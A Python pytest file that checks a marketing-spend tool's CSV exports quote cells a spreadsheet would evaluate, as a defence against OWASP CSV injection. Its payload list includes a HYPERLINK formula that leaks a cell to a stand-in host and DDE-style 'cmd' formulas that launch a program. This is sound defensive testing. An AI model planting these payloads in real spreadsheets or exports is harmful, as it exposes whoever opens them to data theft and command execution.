"""Issue 14 item 7: no CSV kassa writes carries a formula (OWASP CSV injection).

A spend file names nine channels and campaigns like the audit's payloads; every CSV export of them
(``/channels.csv``, ``/channels/<channel>.csv``, ``kassa metrics --csv``) writes each text cell that a
spreadsheet would evaluate with a leading quote, and numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from tests.kassa_cli import run_kassa
from tests.web.helpers import LOCAL

from kassa.report.csvfile import rows_csv, safe_cell
from kassa.store import Warehouse
from kassa.web import create_app

# The audit's cells, and one for each start a spreadsheet may evaluate (=, +, -, @, tab, CR).
PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "=cmd|' /c calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=2+2",  # the importer trims white space: stored as =2+2, still a formula
    "\r=3+3",
]
CHANNEL = "=cmd|' /c calc'!A0"


def _unsafe(cell: str) -> bool:
    """Text a spreadsheet would evaluate; a number (``-1.0``) is a number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return False


def test_safe_cell_quotes_text_that_starts_like_a_formula_and_leaves_numbers() -> None:
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    assert safe_cell(-1200.5) == -1200.5 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("vk_ads") == "vk_ads" and safe_cell("a=b") == "a=b"
    text = rows_csv(["name", "cost"], [[p, -2] for p in PAYLOADS])
    read = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in read[1:]] == ["'" + p for p in PAYLOADS] and {r[1] for r in read[1:]} == {"-2"}


@pytest.fixture
def payload_db(golden_file: Path, tmp_path: Path) -> Path:
    """The golden warehouse with a spend file whose campaigns are the payloads (channel: a payload too)."""
    db = tmp_path / "w.duckdb"
    shutil.copy(golden_file, db)
    spend = tmp_path / "payload_spend.csv"
    with spend.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["date", "channel", "campaign", "impressions", "clicks", "cost"])
        for i, p in enumerate(PAYLOADS):
            w.writerow([f"2026-10-{i + 2:02d}", CHANNEL, p, 100, 5, 1000 + i])
    with Warehouse.open(db) as wh:
        wh.import_files([spend], strict=True)
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check(rows: list[list[str]], column: str) -> list[str]:
    """No cell can run as a formula; returns the column's cells."""
    header, body = rows[0], rows[1:]
    unsafe = [c for r in body for c in r if _unsafe(c)]
    assert not unsafe, unsafe
    return [r[header.index(column)] for r in body]


def test_dashboard_csv_exports_quote_formulas(payload_db: Path) -> None:
    app = create_app(payload_db, users_required=False, warm=False)
    try:
        client = TestClient(app, base_url=LOCAL)
        channels = _cells(client.get("/channels.csv?period=2026-10").text)
        assert "'" + CHANNEL in _check(channels, "channel")
        # The channel's own campaigns, its name percent-encoded in the URL.
        got = client.get(f"/channels/{quote(CHANNEL, safe='')}.csv?period=2026-10")
        assert got.status_code == 200, got.text
        rows = _cells(got.text)
        campaigns = _check(rows, "campaign")
        assert len(set(campaigns)) == len(PAYLOADS) and all(c.startswith("'") for c in campaigns)
        cost = [float(r[rows[0].index("marketing_cost")]) for r in rows[1:]]
        assert sorted(cost) == [1000.0 + i for i in range(len(PAYLOADS))]  # numbers stay numbers
    finally:
        app.state.dashboard.close()


def test_kassa_metrics_csv_quotes_formulas(payload_db: Path) -> None:
    result = run_kassa("metrics", "--db", payload_db, "--period", "2026-10", "--by", "campaign", "--csv")
    assert result.returncode == 0, result.stderr
    rows = _cells(result.stdout)
    campaigns = _check(rows, "campaign")
    assert sum(c.startswith("'") for c in campaigns) == len(PAYLOADS)
